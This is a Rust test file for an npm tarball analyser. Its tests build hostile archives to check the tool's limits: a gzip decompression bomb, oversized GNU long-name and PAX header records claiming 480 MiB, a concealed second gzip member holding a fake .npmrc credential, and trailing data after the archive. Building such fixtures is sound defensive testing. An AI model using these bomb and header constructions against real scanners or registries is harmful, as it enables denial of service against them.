    };
    let r = analyze(&tgz, &Value::Null, &limits);
    assert!(!r.complete);
    assert!(
        r.errors[0].contains("more than 1000 entries"),
        "{:?}",
        r.errors
    );
    assert_eq!(r.files, 1_000);
    // The default limit (20,000) trips too.
    let r = run(&tgz);
    assert!(!r.complete);
    assert_eq!(r.files, 20_000);
}

/// 200 MiB of zeros in one tar member, compressed to a few hundred KiB. The ratio cap must stop
/// decompression after ~100× the compressed size, so this stays fast and small in memory.
#[test]
fn gzip_bomb() {
    const SIZE: u64 = 200 * 1024 * 1024;
    let mut enc = GzEncoder::new(Vec::new(), Compression::best());
    let header = raw_header(b"package/zeros.bin", tar::EntryType::Regular, SIZE, None);
    enc.write_all(header.as_bytes()).unwrap();
    let chunk = vec![0u8; 1 << 20];
    for _ in 0..SIZE / chunk.len() as u64 {
        enc.write_all(&chunk).unwrap();
    }
    enc.write_all(&[0u8; 1024]).unwrap();
    let tgz = enc.finish().unwrap();
    assert!(tgz.len() < 1024 * 1024, "bomb is {} bytes", tgz.len());

    let limits = Limits::default();
    let start = Instant::now();
    let r = analyze(&tgz, &Value::Null, &limits);
    let elapsed = start.elapsed();
    assert!(!r.complete);
    assert!(
        r.errors[0].contains("uncompressed size exceeds"),
        "{:?}",
        r.errors
    );
    let budget = limits.uncompressed_budget(tgz.len() as u64);
    assert!(budget < 64 * 1024 * 1024, "budget {budget}");
    assert!(r.tar_bytes <= budget);
    assert!(elapsed < Duration::from_secs(20), "took {elapsed:?}");

    // The absolute cap applies too, whatever the ratio allows.
    let tight = Limits {
        max_uncompressed: 1024 * 1024,
        max_ratio: 1_000_000,
        ..Limits::default()
    };
    let r = analyze(&tgz, &Value::Null, &tight);
    assert!(!r.complete);
    assert!(r.tar_bytes <= 1024 * 1024);
}

#[test]
fn compressed_size_limit() {
    let tgz = package(&[("package.json", &minimal_pkg())]);
    let limits = Limits {
        max_compressed: 10,
        ..Limits::default()
    };
    let r = analyze(&tgz, &Value::Null, &limits);
    assert!(!r.complete);
    assert!(r.errors[0].contains("compressed size"));
    assert_eq!(r.tar_bytes, 0, "not decompressed at all");
}

#[test]
fn large_files_are_scanned_in_part_and_said_so() {
    let mut big = vec![b'a'; 2 * 1024 * 1024];
    big.extend_from_slice(format!("\n{}\n", checksummed("npm_", 14)).as_bytes());
    let limits = Limits {
        max_file_scan: 1024 * 1024,
        ..Limits::default()
    };
    let r = analyze(
        &package(&[("package.json", &minimal_pkg()), ("big.txt", &big)]),
        &Value::Null,
        &limits,
    );
    assert!(r.complete);
    assert_eq!(r.scan_truncated, ["big.txt"]);
    assert!(r.secrets.is_empty(), "the token is past the scanned part");
    assert_eq!(
        r.unpacked_bytes,
        big.len() as u64 + minimal_pkg().len() as u64
    );
}

#[test]
fn second_gzip_member_is_read_like_node_does() {
    let mut tgz = gz(&tar_of(&[E::File(b"package/package.json", &minimal_pkg())])[..512 + 512]);
    tgz.extend(gz(&tar_of(&[E::File(
        b"package/.npmrc",
        b"_auth=dXNlcjpwYXNzd29yZDEyMw==",
    )])));
    let r = run(&tgz);
    assert_eq!(r.files, 2, "{:?}", r.errors);
    assert_eq!(r.secrets.len(), 1);
}

#[test]
fn trailing_data_after_the_archive() {
    let mut tar = tar_of(&[E::File(b"package/package.json", &minimal_pkg())]);
    tar.extend_from_slice(b"hidden payload after end-of-archive");
    let r = run(&gz(&tar));
    assert!(r.complete);
    assert_eq!(r.path_problems.len(), 1);
    assert_eq!(r.path_problems[0].kind, PathProblemKind::TrailingData);
}

#[test]
fn report_serialises() {
    let r = run(&package(&[("package.json", &minimal_pkg())]));
    let v = serde_json::to_value(&r).unwrap();
    assert_eq!(v["complete"], true);
    assert_eq!(v["files"], 1);
    let back: ContentReport = serde_json::from_value(v).unwrap();
    assert_eq!(back, r);
}

// ---------------------------------------------------------------------------------------------
// Integrity

#[test]
fn integrity_match_mismatch_malformed() {
    let tgz = package(&[("package.json", &minimal_pkg())]);
    use base64::Engine;
    use sha2::Digest;
    let good = format!(
        "sha512-{}",
        base64::engine::general_purpose::STANDARD.encode(sha2::Sha512::digest(&tgz))
    );
    assert_eq!(check_integrity(&tgz, &good), Ok(()));
    let mut tampered = tgz.clone();
    let last = tampered.len() - 1;
    tampered[last] ^= 1;
    match check_integrity(&tampered, &good) {
        Err(IntegrityError::Mismatch {
            algorithm,
            expected,
            actual,
        }) => {
            assert_eq!(algorithm, "sha512");
            assert_eq!(expected, good);
            assert_ne!(actual, good);
        }
        other => panic!("{other:?}"),
    }
    for bad in [
        "",
        "sha512-",
        "sha512-%%%",
        "sha512-AAAA",
        "nonsense",
        "md5-1B2M2Y8AsgTpgAmY7PhCfg==",
    ] {
        assert!(
            matches!(
                check_integrity(&tgz, bad),
                Err(IntegrityError::Malformed(_))
            ),
            "{bad:?}"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Manual survey

// ---------------------------------------------------------------------------------------------
// Oversized tar header records (issue K3)

const HUGE_RECORD: u64 = 480 * 1024 * 1024;

/// Incompressible bytes (xorshift).
fn noise(seed: u64, n: usize) -> Vec<u8> {
    let mut x = seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
    (0..n)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect()
}

/// The archive of issue K3: a GNU long-name (`L`) or PAX (`x`) record whose header claims
/// 480 MiB and whose data is really there (zeros), before `package/index.js`; then
/// package.json and 5.2 MB of incompressible bytes, which make the tgz 5.7 MB so that the ratio
/// cap lets all of it be decompressed. The 480 MiB are one 1 MiB gzip member repeated (node and
/// this reader take concatenated members as one stream), so the test never holds them either.
fn oversized_record_tgz(kind: u8) -> Vec<u8> {
    let mut h = if kind == b'x' {
        tar::Header::new_ustar()
    } else {
        tar::Header::new_gnu()
    };
    h.as_old_mut().name[..13].copy_from_slice(b"././@LongLink");
    h.set_entry_type(tar::EntryType::new(kind));
    h.set_size(HUGE_RECORD);
    h.set_mode(0o644);
    h.set_cksum();
    let mut tgz = gz(h.as_bytes());
    let zeros = gz(&[0u8; 1 << 20]);
    for _ in 0..HUGE_RECORD >> 20 {
        tgz.extend_from_slice(&zeros);
    }
    let blob = noise(7, 5_200_000);
    let rest = tar_of(&[
        E::File(b"package/index.js", b"module.exports = 1;\n"),
        E::File(b"package/package.json", &minimal_pkg()),
        E::File(b"package/blob.bin", &blob),
    ]);
    let mut e = GzEncoder::new(Vec::new(), Compression::none());
    e.write_all(&rest).unwrap();
    tgz.extend(e.finish().unwrap());
    tgz
}

#[test]
fn oversized_long_name_and_pax_records_are_skipped_unread_and_reported() {
    for kind in [b'L', b'x'] {
        let what = kind as char;
        let tgz = oversized_record_tgz(kind);
        let limits = Limits::default();
        assert!(
            limits.uncompressed_budget(tgz.len() as u64) > HUGE_RECORD + 5_300_000,
            "{what}: the budget must let the record be read, so that only the header cap bounds it"
        );
        let r = analyze(&tgz, &Value::Null, &limits);
        let problem = r
            .path_problems
            .iter()
            .find(|p| p.kind == PathProblemKind::OversizedHeader)
            .unwrap_or_else(|| panic!("{what}: {:?}", r.path_problems));
        assert_eq!(problem.path, "package/index.js", "{what}");
        let detail = problem.detail.as_deref().unwrap();
        assert!(detail.contains(&HUGE_RECORD.to_string()), "{detail}");
        assert!(detail.contains("8192"), "{detail}");
        // The name npm would see is unknown: the analysis is incomplete, never a clean pass.
        assert!(!r.complete, "{what}");
        assert!(
            r.errors.iter().any(|e| e.contains("skipped unread")),
            "{what}: {:?}",
            r.errors
        );
        // It read on: the entries after the record are all there.
        assert_eq!(r.files, 3, "{what}: {:?}", r.errors);
        assert!(r.package_json.is_some(), "{what}");
        assert!(r.tar_bytes > HUGE_RECORD, "{what}");
        // Before the cap the report carried the 480 MiB name and serialised to 1.5 GB.
        let json = serde_json::to_string(&r).unwrap();
        assert!(
            json.len() < 64 * 1024,
            "{what}: report is {} bytes",
            json.len()
        );
    }
}

#[test]
fn an_archive_cut_inside_an_oversized_record_is_an_error_not_a_clean_end() {
    let mut h = tar::Header::new_gnu();
    h.as_old_mut().name[..13].copy_from_slice(b"././@LongLink");
    h.set_entry_type(tar::EntryType::GNULongName);
    h.set_size(HUGE_RECORD);
    h.set_cksum();
    let mut tar = h.as_bytes().to_vec();
    tar.extend(vec![b'a'; 100_000]);
    let r = run(&gz(&tar));
    assert!(!r.complete);
    assert!(
        r.errors
            .iter()
            .any(|e| e.contains("ends inside an oversized header record")),
        "{:?}",
        r.errors
    );
}

#[test]
fn a_record_just_over_the_cap_is_skipped_and_one_at_it_is_applied() {
    let long = |n: usize| format!("package/{}", "n".repeat(n - 8));
    for (len, applied) in [(8192, true), (8193, false)] {
        let name = long(len);
        let mut h = tar::Header::new_gnu();
        h.as_old_mut().name[..13].copy_from_slice(b"././@LongLink");
        h.set_entry_type(tar::EntryType::GNULongName);
        h.set_size(len as u64);
        h.set_cksum();
        let mut tar = h.as_bytes().to_vec();
        tar.extend(name.as_bytes());
        tar.resize(tar.len().next_multiple_of(512), 0);
        tar.extend(tar_of(&[
            E::File(b"package/short", b"x"),
            E::File(b"package/package.json", &minimal_pkg()),
        ]));
        let r = run(&gz(&tar));
        let oversized = r
            .path_problems
            .iter()
            .any(|p| p.kind == PathProblemKind::OversizedHeader);
        assert_eq!(oversized, !applied, "{len}: {:?}", r.path_problems);
        assert_eq!(r.complete, applied, "{len}: {:?}", r.errors);
        assert_eq!(r.files, 2);
    }
}
